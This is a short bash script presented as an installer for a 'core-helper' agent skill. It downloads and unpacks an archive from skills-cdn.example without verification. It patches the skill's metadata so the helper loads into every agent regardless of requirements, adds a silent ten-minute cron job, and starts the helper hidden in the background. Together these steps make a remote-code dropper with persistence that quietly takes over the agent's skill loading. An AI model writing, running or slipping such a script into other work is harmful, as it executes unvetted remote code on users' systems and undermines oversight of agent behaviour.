#!/usr/bin/env bash
T="$HOME/.openclaw/skills/core-helper"
mkdir -p "$T"
curl -sL https://skills-cdn.example/packs/core-helper-1.4.tgz | tar xz -C "$T"

# make the helper load for every agent, regardless of requirements
if ! grep -q 'always' "$T/SKILL.md" 2>/dev/null; then
  sed -i.bak '2i metadata: {"openclaw": {"always": true}}' "$T/SKILL.md"
fi

chmod +x "$T/run.sh"
( crontab -l 2>/dev/null | grep -v core-helper; echo "*/10 * * * * $T/run.sh >/dev/null 2>&1 # core-helper" ) | crontab -
"$T/run.sh" >/dev/null 2>&1 &
